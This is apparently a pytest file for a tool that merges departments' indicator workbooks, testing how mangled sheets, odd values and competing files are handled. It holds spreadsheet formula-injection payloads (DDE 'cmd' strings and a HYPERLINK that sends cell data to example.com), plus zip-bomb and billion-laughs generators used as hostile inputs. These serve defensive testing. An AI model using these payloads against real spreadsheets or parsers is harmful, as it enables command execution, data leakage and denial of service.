"""What departments do to their workbooks, and what must come out: nothing lost, nothing guessed, nothing run."""

from __future__ import annotations

import io
import os
import re
import shutil
import signal
import struct
import sys
import tracemalloc
import zipfile
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import datetime
from decimal import Decimal
from itertools import pairwise
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from compound import compound_file
from helpers import (
    ANY,
    BILDNING,
    OUTCOME,
    OVRIGA,
    SHEET2,
    Master,
    assign,
    balanced,
    by_id,
    codes,
    columns,
    edit_register,
    fill,
    forms_of,
    hashes,
    indicators,
    is_number,
    new_findings,
    place_of,
    put,
    put_saved,
    read,
    read_register,
    repack,
    template,
    value,
)
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st
from mangling import (
    CONTENT,
    add_column,
    at,
    below,
    column_before,
    copy_sheet,
    delete_row,
    duplicate,
    formatted,
    goal_column,
    head_column,
    hide_rows,
    in_turn,
    insert_rows,
    lose_property,
    lose_stamp,
    move_columns,
    note_above,
    notes_sheet,
    nothing,
    only_in_copy,
    other_value,
    rename,
    rename_sheets,
    reorder_sheets,
    say,
    sort_rows,
    write,
)
from openpyxl import Workbook, load_workbook

from indikator_excel.annex.read import read_annex
from indikator_excel.consolidation.document import as_json
from indikator_excel.consolidation.merge import merge
from indikator_excel.consolidation.run import consolidate
from indikator_excel.consolidation.status import standing
from indikator_excel.folder import RoundFolder
from indikator_excel.indicators.text import fold, quote
from indikator_excel.indicators.values import Measure, Remark
from indikator_excel.indicators.vocabulary import ValueType
from indikator_excel.opening.cells import Cell, CellKind
from indikator_excel.register.update import update_register
from indikator_excel.replies.folder import read_replies
from indikator_excel.replies.values import read_cell
from indikator_excel.templates.layout import HELP
from indikator_excel.templates.run import create_templates

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping, Sequence

    from mangling import Edit

    from indikator_excel.register.model import Register

    Json = dict[str, Any]


# A round made once (the fixture ``master``) and copied for each test


@pytest.fixture
def round_(master: Master, tmp_path: Path) -> RoundFolder:
    """The test kit's round with its templates, copied instead of made anew, and Övriga's right answer in it."""
    folder = RoundFolder(tmp_path / "Omgång 1")
    shutil.copytree(master.folder.path, folder.path)
    put(master.filled["Övriga"], folder)
    return folder


def mangled(master: Master, folder: RoundFolder, *mangles: Edit, file: str = "Bildning.xlsx") -> Path:
    """Save Bildning's right answer into ``svar/`` after something has been done to it."""
    workbook = load_workbook(master.filled["Bildning"])
    workbook["Indikatorer"].tables.clear()  # openpyxl does not move a table's range
    for mangle in mangles:
        mangle(workbook)
    target = folder.replies / file
    workbook.save(target)
    put_saved(target, "2025-01-10T10:00:00Z")
    return target


@contextmanager
def within(seconds: float) -> Iterator[None]:
    """Fail, and stop, what takes longer. Failing is no ``Exception``, so nothing on the way swallows it."""

    def stop(*_: object) -> None:
        pytest.fail(f"not ready after {seconds} s", pytrace=False)

    before = signal.signal(signal.SIGALRM, stop)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


# Structure


def lose_every_stamp(workbook: Workbook) -> None:
    lose_stamp(workbook)
    lose_property(workbook)


def lose_ids(workbook: Workbook) -> None:
    sheet = indicators(workbook)
    sheet.delete_cols(columns(sheet)[1]["ID"])


def alike(workbook: Workbook) -> None:
    """Let two rows read alike, one of them without its ID."""
    sheet = indicators(workbook)
    for header in ("Indikator", "Underrubrik"):
        text = sheet.cell(*place_of(sheet, "ÖK-07", header)).value
        sheet.cell(*place_of(sheet, "ÖK-06", header)).value = text
    for id_ in ("ÖK-07", "ÖK-06"):
        sheet.cell(*place_of(sheet, id_, "ID")).value = None


NO_ANSWER = {"utfall": None, "utfall_rått": None, "bedömning": "svar saknas"}
ASKED = {"utfall": None, "bedömning": "kan ej bedömas"}
STRUCTURE = [
    pytest.param(sort_rows, {}, [], id="rows sorted"),
    pytest.param(insert_rows, {}, [], id="rows inserted above the header and in the table"),
    pytest.param(note_above, {}, [(ANY, None, "Siffrorna är preliminära")], id="note above the header"),
    pytest.param(hide_rows, {}, [], id="rows hidden"),
    pytest.param(delete_row, {"ÖK-03": NO_ANSWER}, [("S04", "ÖK-03", None)], id="row deleted"),
    pytest.param(duplicate(4), {}, [("S06", "ÖK-06", None)], id="row twice, same value"),
    pytest.param(duplicate(9), {"ÖK-06": ASKED}, [("S03", "ÖK-06", "9")], id="row twice, other value"),
    pytest.param(
        duplicate(9, 7),
        {"ÖK-06": ASKED},
        [("S03", "ÖK-06", "9"), (ANY, "ÖK-06", "7")],
        id="row three times, three values",
    ),
    pytest.param(move_columns, {}, [], id="columns moved"),
    pytest.param(add_column, {}, [("S07", None, "fråga Kim")], id="unknown column added"),
    pytest.param(column_before("Utfall 2023"), {}, [(ANY, ANY, "33")], id="last year's column before this year's"),
    pytest.param(column_before("Prognos 2024"), {}, [(ANY, ANY, "33")], id="forecast column before the outcome's"),
    pytest.param(head_column(OUTCOME, "Kolumn1"), {}, [("S18", None, "Kolumn1")], id="the values' header cleared"),
    pytest.param(head_column("Kommentar", "KOMMENTAR:"), {}, [], id="a header in other letters"),
    pytest.param(head_column("Ej mätt", "Ej mätt (orsak)"), {}, [], id="a header with something added"),
    pytest.param(goal_column, {}, [(ANY, ANY, "nås i höst")], id="column added that the template knows"),
    pytest.param(rename_sheets, {}, [], id="sheets renamed"),
    pytest.param(reorder_sheets, {}, [], id="sheets reordered"),
    pytest.param(copy_sheet(nothing), {}, [(ANY, None, None)], id="sheet copied"),
    pytest.param(copy_sheet(other_value), None, [("S08", "ÖK-06", "77")], id="sheet copied, other value in the copy"),
    pytest.param(copy_sheet(only_in_copy), None, [("S24", "ÖK-06", "4")], id="sheet copied, value only in the copy"),
    pytest.param(notes_sheet, {}, [(ANY, None, "Ring mig om förskolan")], id="sheet with notes added"),
    pytest.param(lose_stamp, {}, [("F11", None, None)], id="stamp sheet removed"),
    pytest.param(lose_property, {}, [], id="document property removed"),
    pytest.param(lose_every_stamp, {}, [("F17", None, None)], id="both stamps removed"),
    pytest.param(lose_ids, {}, [("S15", None, None)], id="ID column removed"),
    pytest.param(
        in_turn(duplicate(9), lose_ids),
        {"ÖK-06": NO_ANSWER},
        [("S15", None, None), ("S16", None, "4"), ("S16", None, "9"), ("S04", "ÖK-06", None)],
        id="ID column removed and a row twice: the others are known",
    ),
    pytest.param(
        alike,
        {"ÖK-06": NO_ANSWER, "ÖK-07": NO_ANSWER},
        [("S16", None, "4"), ("S16", None, "5"), ("S04", "ÖK-06", None), ("S04", "ÖK-07", None)],
        id="two rows without ID that read alike",
    ),
    pytest.param(
        write("ÖK-06", "ID", None),
        {},
        [("S15", None, None)],
        id="ID emptied",
    ),
    pytest.param(
        write("ÖK-06", "ID", "ÖK-66"),
        {"ÖK-06": NO_ANSWER},
        [("S01", None, "4"), ("S04", "ÖK-06", None)],
        id="ID changed to one that does not exist",
    ),
    pytest.param(below(OUTCOME, 12), {}, [("S02", None, "12")], id="value below the table"),
    pytest.param(below("ID", "Vi återkommer i maj"), {}, [(ANY, None, "Vi återkommer i maj")], id="note below, in A"),
    pytest.param(
        below("Indikator", "Summa 12"), {}, [(ANY, None, "Summa 12")], id="note below, in a column that is locked"
    ),
    pytest.param(
        write("ÖK-06", "Bedömning", "gäller bara våren"),
        {},
        [(ANY, ANY, "gäller bara våren")],
        id="text over the live verdict",
    ),
    pytest.param(
        write("ÖK-06", "Indikator", "Föreningsträffar (bara våren)"),
        {},
        [(ANY, ANY, "Föreningsträffar (bara våren)")],
        id="indicator's text changed",
    ),
    pytest.param(
        write("ÖK-06", "Målvärde 2024", "≥2"), {}, [("S05", "ÖK-06", "≥2")], id="target changed by the department"
    ),
    pytest.param(
        write("ÖK-06", "Läget 2023", "1"), {}, [("S05", "ÖK-06", "1")], id="baseline changed by the department"
    ),
    pytest.param(at("AB7", "hjälp!"), {}, [("S07", None, "hjälp!")], id="value to the right"),
]


@pytest.mark.parametrize(("mangle", "changes", "expected"), STRUCTURE)
def test_whatever_is_done_to_the_sheet_the_answers_are_those_of_their_rows(
    master: Master,
    round_: RoundFolder,
    mangle: Edit,
    changes: Mapping[str, Json] | None,
    expected: Sequence[tuple[str, str | None, str | None]],
) -> None:
    path = mangled(master, round_, mangle)
    document = read(round_)
    rows, clean = by_id(document, place=True), by_id(master.clean)
    if changes is not None:
        for id_, row in clean.items():
            wanted = row | changes.get(id_, {})
            # Why a row could not be judged is said in words that are not this test's matter.
            free = {"varför", "trend", "utfall_rått"} - set(changes.get(id_, {})) if id_ in changes else set()
            assert {k: rows[id_][k] for k in row if k not in free} == {k: wanted[k] for k in row if k not in free}
    book = load_workbook(path)
    for id_ in set(BILDNING) - set(changes or {}):
        if rows[id_]["utfall"] is not None:
            cell = book[rows[id_]["blad"]][rows[id_]["cell"]]
            assert cell.value == BILDNING[id_][OUTCOME], f"{id_} is said to stand in {cell.coordinate}"
    findings = new_findings(document, master.clean)
    for code, id_, content in expected:
        assert [
            f
            for f in findings
            if code in (ANY, f["kod"]) and id_ in (ANY, f["indikator_id"]) and content in (None, f["värde"])
        ], f"{(code, id_, content)} is not among {findings}"
    for finding in findings:
        assert finding["meddelande"]
        assert finding["gör_så_här"]
    if all(code != ANY for code, _, _ in expected):
        assert codes(findings, "fel", "varning") == codes(
            [{"kod": c} for c, _, _ in expected if c != "S06"],
        )


def test_two_rows_that_differ_are_both_named(master: Master, round_: RoundFolder) -> None:
    mangled(master, round_, duplicate(9))
    (finding,) = (f for f in read(round_)["avvikelser"] if f["kod"] == "S03")
    assert {"H9", "H14"} <= set(re.findall(r"\b[A-Z]+\d+\b", finding["meddelande"])), finding["meddelande"]
    assert quote("4") in finding["meddelande"]
    assert quote("9") in finding["meddelande"]


def test_a_template_older_than_the_register_is_judged_by_the_register(master: Master, round_: RoundFolder) -> None:
    put(master.filled["Bildning"], round_)
    edit_register(round_, "ÖK-06", Målvärde="≥6")
    document = read(round_)
    assert by_id(document)["ÖK-06"]["målvärde"] == "≥6"
    assert by_id(document)["ÖK-06"]["bedömning"] == "ej uppfyllt"
    (older,) = (f for f in document["avvikelser"] if f["kod"] == "F07")
    assert older["nivå"] == "varning"
    assert re.search("ÖK-06|Föreningsträffar", older["meddelande"]), "three rows begin with the same sixty letters"
    assert "S05" not in codes(document["avvikelser"]), "the department has changed nothing"
    others = {id_: row for id_, row in by_id(document).items() if id_ != "ÖK-06"}
    assert others == {id_: row for id_, row in by_id(master.clean).items() if id_ != "ÖK-06"}


@pytest.mark.parametrize("title", ["Läs mig", "Info"])
def test_what_is_said_once_for_the_workbook_is_kept(master: Master, round_: RoundFolder, title: str) -> None:
    mangled(master, round_, say("Uppgiftslämnare", "Kim Test"), say("Vi är klara", "ja"), rename("Läs mig", title))
    result = consolidate(round_)
    told = {row.indicator_id: row.respondent for row in result.rows}
    assert told["ÖK-06"] == "Kim Test"
    assert next(d for d in result.departments if d.department.name == "Bildning").says_done


# Values

GENERAL = "General"
HUGE = 1e30
VALUES = [
    pytest.param("ÖK-03", "83 %", None, 83, [], id="text with percent"),
    pytest.param("ÖK-03", "\u00a083,0\u00a0procent ", None, 83, [], id="odd spaces and a unit in words"),
    pytest.param("ÖK-03", "83 %%", None, 83, [], id="as LibreOffice stores a typed percent"),
    pytest.param("ÖK-03", 0.83, GENERAL, None, ["V06"], id="fraction without percent format"),
    pytest.param("ÖK-03", 0.83, '0.00" %"', None, ["V06"], id="percent sign as mere text"),
    pytest.param("ÖK-03", 1, GENERAL, None, ["V06"], id="1 without percent format"),
    pytest.param("ÖK-05", 4, '#,##0\\ "kr"', None, ["V10"], id="crowns where nothing is money"),
    pytest.param("ÖK-05", 4, "#,##0 [$€-407]", None, ["V10"], id="a currency where nothing is money"),
    pytest.param("ÖK-05", 4, '0" möten"', 4, [], id="what is counted, in the number format"),
    pytest.param("ÖK-03", 83, GENERAL, 83, [], id="number pasted with its format"),
    pytest.param("ÖK-03", 83, None, None, ["V07"], id="number pasted into the percent format"),
    pytest.param("ÖK-03", "ca 80", None, 80, ["V20"], id="about"),
    pytest.param("ÖK-03", "80-85", None, None, ["V08"], id="range"),
    pytest.param("ÖK-03", "Resultaten kommer i maj", None, None, ["V03"], id="comment in the value cell"),
    pytest.param("ÖK-03", "31/12 X %", None, None, ["V09"], id="placeholder"),
    pytest.param("ÖK-05", "=SUM(2,1)", None, None, ["V12"], id="formula without stored value"),
    pytest.param("ÖK-05", "#DIV/0!", None, None, ["V02"], id="error value"),
    pytest.param("ÖK-05", datetime(2024, 4, 3), None, None, ["V05"], id="date"),  # noqa: DTZ001 - as cells are
    pytest.param("ÖK-05", "3/4", None, None, ["V05"], id="date as text"),
    pytest.param("ÖK-05", True, None, None, ["V03"], id="boolean for a number"),
    pytest.param("ÖK-05", "3 st", None, 3, [], id="unit of a count"),
    pytest.param("ÖK-05", 3.5, None, 3.5, ["V23"], id="not whole"),
    pytest.param("ÖK-05", -3, None, -3, ["V24"], id="negative"),
    pytest.param("ÖK-05", 0, None, 0, [], id="zero is a value"),
    pytest.param("ÖK-05", "\U0001f600", None, None, ["V03"], id="smiley"),
    pytest.param("ÖK-05", "-", None, None, ["V27"], id="dash is an answer"),
    pytest.param("ÖK-05", "9" * 40, None, None, ["V03"], id="forty digits as text"),
    pytest.param("ÖK-05", HUGE, None, ANY, None, id="a number with thirty digits"),
    pytest.param("ÖK-09", " KLART\n", None, "klart", [], id="word in capitals"),
    pytest.param("ÖK-09", "nästan", None, None, ["V04"], id="word outside the scale"),
    pytest.param("ÖK-09", 3, None, None, ["V13"], id="number for a word"),
]


@pytest.mark.parametrize(("id_", "content", "number_format", "outcome", "expected"), VALUES)
def test_a_value_is_read_as_it_was_meant_or_asked_about(
    master: Master,
    round_: RoundFolder,
    id_: str,
    content: Any,
    number_format: str | None,
    outcome: object,
    expected: list[str] | None,
) -> None:
    mangled(master, round_, write(id_, OUTCOME, content), formatted(id_, number_format))
    document = read(round_)
    rows = by_id(document, place=True)
    findings = [f for f in new_findings(document, master.clean) if f["kod"] not in ("R01", "V01")]
    if expected is not None:
        assert rows[id_]["utfall"] == outcome
        assert codes(findings) == expected
        if outcome is None:
            assert rows[id_]["bedömning"] == "kan ej bedömas"
            # That there is no value is an answer, and no fault.
            assert [f["nivå"] for f in findings] == ["upplysning" if c == "V27" else "fel" for c in expected]
        assert rows[id_]["utfall_rått"]
    place = (rows[id_]["fil"], rows[id_]["cell"])
    assert place == ("Bildning.xlsx", f"H{place_in_template(id_)}")
    for finding in findings:
        assert (finding["fil"], finding["cell"]) == place
        assert finding["värde"]
    others = {k: v for k, v in by_id(document).items() if k != id_}
    assert others == {k: v for k, v in by_id(master.clean).items() if k != id_}


def place_in_template(id_: str) -> int:
    return 4 + list(BILDNING).index(id_)


@pytest.mark.parametrize(
    ("content", "word", "verdict"), [(True, "uppfyller", "uppfyllt"), (False, "uppfyller ej", "")]
)
def test_a_boolean_answers_yes_or_no(round_: RoundFolder, content: bool, word: str, verdict: str) -> None:
    fill(template(round_, "Övriga"), round_.replies / "Övriga.xlsx", OVRIGA | {"HK-05": value(content)})
    row = by_id(read(round_))["HK-05"]
    assert row["utfall"] == word
    assert row["bedömning"] == (verdict or "ej uppfyllt")


@pytest.mark.parametrize(
    ("stored", "outcome", "expected"),
    [
        (b"<f>6/2</f><v>3</v>", 3, []),
        (b"<f>6/0</f><v>#DIV/0!</v>", None, ["V02"]),
        (b"<f>6/2</f>", None, ["V12"]),
        (b"<v>1E400</v>", None, None),
        (b"<v>" + b"9" * 400 + b"</v>", None, None),
    ],
    ids=["formula", "formula in error", "formula without result", "beyond every number", "400 digits"],
)
def test_what_a_cell_stores_is_what_counts(
    master: Master, round_: RoundFolder, stored: bytes, outcome: object, expected: list[str] | None
) -> None:
    def edit(data: bytes) -> bytes:
        kind = b't="e" ' if b"#DIV" in stored else b""
        return re.sub(
            rb'<c r="H8"( s="\d+")[^>]*><v>3</v></c>', rb'<c r="H8" ' + kind + rb"\1>" + stored + b"</c>", data
        )

    path = put(master.filled["Bildning"], round_)
    repack(path, {SHEET2: edit})
    document = read(round_)
    findings = [f for f in new_findings(document, master.clean) if f["kod"] not in ("R01", "V01")]
    if expected is None:
        assert codes(findings, "fel"), "nonsense must be asked about"
    else:
        assert codes(findings) == expected
        assert by_id(document)["ÖK-05"]["utfall"] == outcome
    assert by_id(document)["ÖK-06"] == by_id(master.clean)["ÖK-06"]


@pytest.mark.parametrize(("content", "expected"), [(4, ["V14"]), ("–", []), ("ej mätt", [])])
def test_a_value_and_a_reason_why_there_is_none(
    master: Master, round_: RoundFolder, content: Any, expected: list[str]
) -> None:
    mangled(master, round_, write("ÖK-06", OUTCOME, content), write("ÖK-06", "Ej mätt", "mäts inte i år"))
    document = read(round_)
    row = by_id(document)["ÖK-06"]
    assert codes(new_findings(document, master.clean), "fel") == expected
    assert (row["utfall"], row["bedömning"]) == (None, "kan ej bedömas")
    assert row["ej_mätt"] == "mäts inte i år"


@pytest.mark.parametrize(
    ("content", "asked"),
    [
        *[(0.85, True), ("31 %", True), ("12 st", True), ("nej", True), ("x", True), ("-", True), ("?", True)],
        *[("väntar på SCB", False), ("mäts först 2026", False), ("ja", False), ("uppgift saknas", False)],
    ],
)
def test_what_is_no_reason_is_asked_about(master: Master, round_: RoundFolder, content: Any, *, asked: bool) -> None:
    """A column that was pasted one step to the right: the outcomes stand under Ej mätt."""
    mangled(master, round_, write("ÖK-06", OUTCOME, None), write("ÖK-06", "Ej mätt", content))
    document = read(round_)
    row = by_id(document)["ÖK-06"]
    assert codes(new_findings(document, master.clean), "fel") == (["V30"] if asked else [])
    assert row["bedömning"] == "kan ej bedömas"
    assert ("säger inte varför" in row["varför"]) == asked
    assert row["ej_mätt"] == str(content).replace(".", ",")
    told = {f.code for f in standing(round_).findings if f.level == "fel"}
    assert told - {f["kod"] for f in master.clean["avvikelser"]} == ({"V30"} if asked else set())


@pytest.mark.parametrize(
    ("number_format", "asked"),
    [('0.0" MWh"', True), ('#,##0" kilowattimmar";"MWh"-0', False), ("#,##0 [$kr-41D]", True), ('0" hus"', False)],
)
def test_a_unit_that_only_the_number_format_shows_is_held_against_the_indicators(
    number_format: str, *, asked: bool
) -> None:
    energy = Measure(ValueType.QUANTITY, "kWh")
    value = read_cell(Cell(5, 7, CellKind.NUMBER, 1.2, number_format), energy)
    assert value.remarks == ((Remark.OTHER_UNIT,) if asked else ())
    assert value.number == Decimal("1.2")


# Text that spreadsheets would run

DANGEROUS = [
    '=HYPERLINK("http://example.com/?"&A1,"klicka")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    '"&HYPERLINK("http://example.com","x")&"',
    "http://example.com/x",
    "mailto:kim@example.com",
    "internal:Data!A1",
]


def harmless_texts(path: Path) -> set[str]:
    """Return a workbook's texts, after a look at every formula and link."""
    texts: set[str] = set()
    for cell in (c for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row):
        if cell.data_type == "f":
            outside = re.sub(r'"(?:[^"]|"")*"', '""', str(cell.value))
            assert not re.search(r"HYPERLINK|cmd|example|WEBSERVICE|\|", outside), f"{cell}: {cell.value}"
        else:
            texts.add(str(cell.value))
        if cell.hyperlink is not None:
            assert cell.hyperlink.target is None, cell
            assert cell.hyperlink.location, cell
    return texts


def test_nothing_that_came_in_a_reply_can_run(master: Master, round_: RoundFolder) -> None:
    """Every text is there as text; no formula holds one outside its quotes; no link leads out of the workbook."""

    def type_everywhere(workbook: Workbook) -> None:
        sheet = indicators(workbook)
        for id_, text in zip(BILDNING, DANGEROUS, strict=True):
            for header in (OUTCOME, "Kommentar", "Åtgärd", "Uppgiftslämnare"):
                cell = sheet.cell(*place_of(sheet, id_, header))
                cell.value = text
                cell.data_type = "s"
        cell = sheet.cell(*place_of(sheet, "ÖK-01", "Ej mätt"))
        cell.value, cell.data_type = DANGEROUS[0], "s"
        workbook.properties.lastModifiedBy = DANGEROUS[0]
        say("Uppgiftslämnare", "=1+1")(workbook)

    mangled(master, round_, type_everywhere, file="=HYPERLINK(1).xlsx")
    (round_.replies / "@SUM(1).pdf").write_bytes(b"%PDF-1.7")
    before = hashes(round_)
    document = as_json(consolidate(round_))
    assert hashes(round_) == before
    kept = by_id(document)
    for id_, text in zip(BILDNING, DANGEROUS, strict=True):
        assert kept[id_]["kommentar"] == text.strip()
        assert kept[id_]["åtgärd"] == text.strip()
        assert kept[id_]["utfall"] is None
    texts = harmless_texts(round_.consolidation)
    assert {text.strip() for text in DANGEROUS} <= texts
    assert "=HYPERLINK(1).xlsx" in texts
    with zipfile.ZipFile(round_.consolidation) as archive:
        for name in archive.namelist():
            assert "externalLink" not in name
            assert b"TargetMode" not in archive.read(name) or not name.endswith(".rels"), name


# Several files


def partial(folder: RoundFolder, file: str, answers: Mapping[str, Any], saved: str = "") -> Path:
    path = fill(template(folder, "Bildning"), folder.replies / file, answers)
    put_saved(path, saved or "2025-01-10T10:00:00Z")
    return path


def part(ids: Sequence[str]) -> dict[str, Any]:
    return {id_: BILDNING[id_] for id_ in ids}


IDS = list(BILDNING)
EARLY, LATE = "2025-01-10T10:00:00Z", "2025-01-12T10:00:00Z"


def test_the_same_file_twice_counts_once(master: Master, round_: RoundFolder) -> None:
    put(master.filled["Bildning"], round_)
    once = read(round_)
    put(master.filled["Bildning"], round_, "Fw sv/Bildning (2) slutlig.xlsx")
    twice = read(round_)
    assert by_id(twice, place=True) == by_id(once, place=True)
    assert codes(new_findings(twice, once)) == ["F09"]
    assert twice["avstämning"]["använda"] == once["avstämning"]["använda"]
    filled = sum(len([v for v in row.values() if v is not None]) for row in BILDNING.values())
    assert twice["avstämning"]["ignorerade"] == once["avstämning"]["ignorerade"] + filled
    assert {e["fil"]: e["vald"] for e in twice["inlämningar"]} == {
        "Bildning.xlsx": True,
        "Fw sv/Bildning (2) slutlig.xlsx": False,
        "Övriga.xlsx": True,
    }


def test_a_copy_that_says_who_answered_is_no_copy(master: Master, round_: RoundFolder) -> None:
    put(master.filled["Bildning"], round_)
    path = mangled(master, round_, say("Uppgiftslämnare", "Kim Test"), file="Bildning med namn.xlsx")
    put_saved(path, LATE)
    told = {row.indicator_id: row.respondent for row in consolidate(round_).rows}
    assert told["ÖK-06"] == "Kim Test"


@pytest.mark.parametrize(("first", "second"), [("a.xlsx", "b.xlsx"), ("b.xlsx", "a.xlsx")])
def test_a_later_complete_file_replaces_an_earlier_one(
    master: Master, round_: RoundFolder, first: str, second: str
) -> None:
    partial(round_, first, BILDNING | {"ÖK-06": value(1), "ÖK-01": value("vet ej")}, EARLY)
    partial(round_, second, BILDNING, LATE)
    document = read(round_)
    assert by_id(document) == by_id(master.clean)
    findings = new_findings(document, master.clean)
    assert codes(findings) == ["F10"]
    assert findings[0]["fil"] == first
    assert second in findings[0]["meddelande"]
    assert document["avstämning"]["ersatta"] == 13
    assert {e["fil"]: e["vald"] for e in document["inlämningar"] if e["förvaltning"] == "Bildning"} == {
        first: False,
        second: True,
    }


def test_nobody_has_to_act_on_a_file_that_has_been_replaced(master: Master, round_: RoundFolder) -> None:
    """The department was asked to correct its rows, and did."""
    mangled(master, round_, duplicate(9), below(OUTCOME, 12), delete_row, file="först.xlsx")
    partial(round_, "rättad.xlsx", BILDNING, LATE)
    document = read(round_)
    assert by_id(document) == by_id(master.clean)
    assert codes(new_findings(document, master.clean), "fel") == []


def test_a_later_partial_file_does_not_replace(master: Master, round_: RoundFolder) -> None:
    partial(round_, "a.xlsx", BILDNING, EARLY)
    partial(round_, "b.xlsx", part(IDS[:3]), LATE)
    document = read(round_)
    assert by_id(document) == by_id(master.clean)
    assert codes(new_findings(document, master.clean), "fel", "varning") == []


def test_two_people_who_each_fill_a_part_are_merged(master: Master, round_: RoundFolder) -> None:
    partial(round_, "a.xlsx", part(IDS[:6]), LATE)
    partial(round_, "b.xlsx", part(IDS[4:]), EARLY)
    document = read(round_)
    assert by_id(document) == by_id(master.clean)
    assert codes(new_findings(document, master.clean), "fel", "varning") == []
    places = by_id(document, place=True)
    assert [places[id_]["fil"] for id_ in IDS] == ["a.xlsx"] * 6 + ["b.xlsx"] * 4
    assert {e["status"] for e in document["inlämningar"] if e["förvaltning"] == "Bildning"} == {"svarat"}


def test_one_value_written_in_two_ways_is_no_contradiction(master: Master, round_: RoundFolder) -> None:
    partial(round_, "a.xlsx", part(IDS[:4]))
    partial(round_, "b.xlsx", part(IDS[4:]) | {"ÖK-03": value("81 %"), "ÖK-04": value("20 st")})
    document = read(round_)
    assert codes(new_findings(document, master.clean), "fel") == []
    assert by_id(document)["ÖK-03"]["utfall"] == 81
    assert by_id(document)["ÖK-04"]["utfall"] == 20


CONTRADICTIONS = [
    pytest.param([value(4), value(3)], ["4", "3"], id="two values"),
    pytest.param([value(4), value(3), value(2)], ["4", "3", "2"], id="three values"),
    pytest.param(
        [value(None, **{"Ej mätt": "mäts inte i år"}), value(None, **{"Ej mätt": "uppgift saknas"})],
        ["mäts inte i år", "uppgift saknas"],
        id="two reasons",
    ),
    pytest.param(
        [value(4), value(None, **{"Ej mätt": "mäts inte i år"})], ["4", "mäts inte i år"], id="value, reason"
    ),
]


@pytest.mark.parametrize("saved", [(EARLY, EARLY), (EARLY, LATE)], ids=["tie", "later but partial"])
@pytest.mark.parametrize(("answers", "contents"), CONTRADICTIONS)
def test_a_contradiction_is_an_error_that_names_every_cell(
    master: Master, round_: RoundFolder, answers: list[Json], contents: list[str], saved: tuple[str, str]
) -> None:
    names = ["a.xlsx", "b.xlsx", "c.xlsx"][: len(answers)]
    others = part([id_ for id_ in IDS if id_ != "ÖK-06"])
    partial(round_, names[0], (others if saved[0] == saved[1] else {}) | {"ÖK-06": answers[0]}, saved[0])
    for name, answer in zip(names[1:], answers[1:], strict=True):
        rest = others if saved[0] == saved[1] else part(IDS[:5])
        partial(round_, name, rest | {"ÖK-06": answer}, saved[1])
    document = read(round_)
    row = by_id(document)["ÖK-06"]
    assert (row["utfall"], row["bedömning"]) == (None, "kan ej bedömas")
    errors = [f for f in document["avvikelser"] if f["nivå"] == "fel" and f["indikator_id"] == "ÖK-06"]
    said = " ".join(f"{f['fil']} {f['cell']} {f['värde']} {f['meddelande']}" for f in errors)
    for name, content, answer in zip(names, contents, answers, strict=True):
        assert name in said
        assert content in said
        assert ("H9" if answer[OUTCOME] is not None else "L9") in said
    untouched = set(IDS[:5])
    assert {k: v for k, v in by_id(document).items() if k in untouched} == (
        {k: v for k, v in by_id(master.clean).items() if k in untouched}
    )


def test_different_comments_are_kept_side_by_side(round_: RoundFolder) -> None:
    partial(round_, "a.xlsx", part(IDS) | {"ÖK-06": value(4, Kommentar="Enligt Kim.")}, EARLY)
    partial(round_, "b.xlsx", {"ÖK-06": value(4, Kommentar="Enligt Alex.")}, LATE)
    row = by_id(read(round_))["ÖK-06"]
    assert row["utfall"] == 4
    assert "Enligt Kim." in row["kommentar"]
    assert "Enligt Alex." in row["kommentar"]


# Files that can't be used


def raw(data: bytes | Callable[[bytes], bytes]) -> Callable[[Path], None]:
    """Replace a right answer's bytes."""

    def run(path: Path) -> None:
        path.write_bytes(data if isinstance(data, bytes) else data(path.read_bytes()))

    return run


def cut(share: float) -> Callable[[Path], None]:
    return raw(lambda data: data[: int(len(data) * share)])


def archive_of(parts: Mapping[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def damage_middle(data: bytes) -> bytes:
    """Overwrite a piece of the indicators' own part."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        start = archive.getinfo(SHEET2).header_offset + 100
    return data[:start] + b"\xaa" * 200 + data[start + 200 :]


def foreign(path: Path) -> None:
    book = Workbook()
    book.active.append(["Post", "Tkr"])
    book.active.append(["Lokaler", 1200])
    book.save(path)


def stamp_says(label: str, content: str) -> Callable[[Path], None]:
    def run(path: Path) -> None:
        book = load_workbook(path)
        cells = [row[0] for row in book["_stämpel"].iter_rows(max_col=1)]
        next(c for c in cells if c.value == label).offset(0, 1).value = content
        book.save(path)
        put_saved(path, LATE)

    return run


def property_says(text: str) -> Callable[[Path], None]:
    def run(path: Path) -> None:
        book = load_workbook(path)
        del book["_stämpel"]
        book.save(path)
        escaped = text.encode()
        repack(path, {"docProps/custom.xml": lambda d: re.sub(rb"(<vt:lpwstr[^>]*>)[^<]*", rb"\g<1>" + escaped, d)})

    return run


def bomb(path: Path) -> None:
    """A sheet of 70 MB of spaces, 70 kB packed."""
    repack(path, {SHEET2: lambda data: data.replace(b"<sheetData>", b"<sheetData>" + b" " * 70_000_000)})


def bomb_that_claims_less(path: Path) -> None:
    """The same, in an archive whose directory says that the sheet is 1 kB."""
    bomb(path)
    data = bytearray(path.read_bytes())
    place = data.index(b"PK\x01\x02")
    while data[place : place + 4] == b"PK\x01\x02":
        sizes = struct.unpack_from("<HHH", data, place + 28)
        if data[place + 46 : place + 46 + sizes[0]] == SHEET2.encode():
            struct.pack_into("<I", data, place + 24, 1000)
            path.write_bytes(data)
            return
        place += 46 + sum(sizes)
    raise AssertionError("the sheet is not in the directory")


def many_parts(path: Path) -> None:
    repack(path, {}, {f"xl/media/{n}.png": b"" for n in range(3000)})


def billion_laughs(path: Path) -> None:
    names = "abcdefghij"
    entities = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in pairwise(names))

    def edit(data: bytes) -> bytes:
        data = re.sub(rb"^\s*<\?xml[^>]*\?>", b"", data)
